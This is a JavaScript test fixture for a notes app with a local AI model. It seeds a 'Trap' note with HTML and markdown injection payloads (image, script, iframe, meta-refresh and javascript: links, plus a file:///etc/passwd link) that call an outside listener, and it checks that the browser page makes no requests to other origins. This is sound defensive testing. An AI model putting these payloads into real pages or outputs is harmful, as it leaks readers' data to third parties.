// What the tests of the page share: a daemon over four notes, a stand-in for Ollama, and a browser's page that asks nobody else.
import assert from "node:assert/strict";
import { after, afterEach, before, beforeEach } from "node:test";
import { ANSWER, Ollama } from "../../../scripts/client-checks/ollama.mjs";
import { launch } from "./chromium.mjs";
import { Daemon } from "./daemon.mjs";
import { Elsewhere, openPage } from "./page.mjs";

export const TIMEOUT = { timeout: 240_000 };
export const QUESTION = "How hot is the water for green tea?";

export let ollama;
export let daemon;
export let elsewhere;
export let browser;
export let reader;

export function notes(leak) {
  return {
    "Drinks/Tea.md": "---\ntags: [drinks]\n---\n# Tea\n\n## Water\n\nGreen tea wants water of seventy degrees.\n\nNot more.\n",
    "Drinks/Coffee.md": "# Coffee\n\nCoffee wants water of ninety degrees.\n",
    "Boat.md": "# Boat\n\nInes and I sold the boat in May.\n",
    "Trap.md": `# Trap\n\nA quarrelsome zeppelin note.\n\n${hostile(leak)}\n`,
  };
}

/** What would tell somebody elsewhere that it was read. */
export function hostile(leak) {
  return [
    `![image](${leak}/image?q=secret) ![reference][there]`,
    `<img src="${leak}/raw" onerror="fetch('${leak}/error')"><iframe src="${leak}/frame"></iframe>`,
    `<link rel="prefetch" href="${leak}/prefetch"><link rel="stylesheet" href="${leak}/style.css">`,
    `<style>@import url(${leak}/import.css);</style><svg><image href="${leak}/svg"/></svg>`,
    `<script>fetch("${leak}/script")</script><video src="${leak}/video" autoplay></video><object data="${leak}/object"></object>`,
    `<meta http-equiv="refresh" content="0;url=${leak}/refresh"><base href="${leak}/"><form action="${leak}/form"><input autofocus onfocus="fetch('${leak}/focus')"></form>`,
    `[a link](${leak}/link) [script](javascript:fetch('${leak}/javascript')) [file](file:///etc/passwd) [data](data:text/html,x) [here](/app.js) <${leak}/auto> ${leak}/bare`,
    `[there]: ${leak}/reference`,
  ].join("\n\n");
}

before(async () => {
  elsewhere = await Elsewhere.listen();
  ollama = await Ollama.start();
  daemon = await Daemon.create(notes(elsewhere.url));
  await daemon.start(ollama.url);
  browser = await launch();
}, TIMEOUT);

after(async () => {
  await browser?.close();
  await daemon?.end();
  ollama?.stop();
  elsewhere?.stop();
}, TIMEOUT);

beforeEach(() => {
  ollama.answer = ANSWER;
  ollama.pauseMillis = 0;
});

afterEach(async () => {
  const { requests, faults } = reader;
  await reader.close();
  const origin = daemon.address()?.url ?? new URL(requests[0]).origin;
  assert.deepEqual(requests.filter((url) => new URL(url).origin !== origin), [], "requests to other places");
  assert.equal(elsewhere.count, 0, "connections to elsewhere");
  assert.deepEqual(faults, []);
});

/** All that the model was given last. */
export function prompt() {
  return ollama.asked.at(-1).messages.map(({ content }) => content).join("\n");
}

/** The page of the daemon, or of another one. */
export async function openedAt(where, options) {
  reader = await openPage(browser, where, options);
  return reader;
}

/** The page, once it is ready. */
export async function opened(options) {
  await openedAt(daemon, options);
  await reader.page.getByText("Up to date").waitFor();
  return reader;
}
